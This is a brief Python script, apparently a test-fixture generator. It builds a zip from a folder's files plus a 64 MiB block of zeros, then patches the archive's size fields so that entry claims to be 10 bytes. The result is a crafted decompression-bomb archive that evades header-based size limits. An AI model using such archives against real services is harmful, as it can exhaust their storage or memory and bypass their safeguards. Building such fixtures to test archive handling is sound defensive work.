import struct
import sys
import zipfile
from pathlib import Path

honest, target = map(Path, sys.argv[1:])
with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
    for path in honest.iterdir():
        archive.write(path, path.name)
    archive.writestr("zeros", bytes(64 << 20))
content = bytearray(target.read_bytes())
claim = struct.pack("<L", 64 << 20)
while (place := content.find(claim)) >= 0:
    content[place : place + 4] = struct.pack("<L", 10)
target.write_bytes(content)
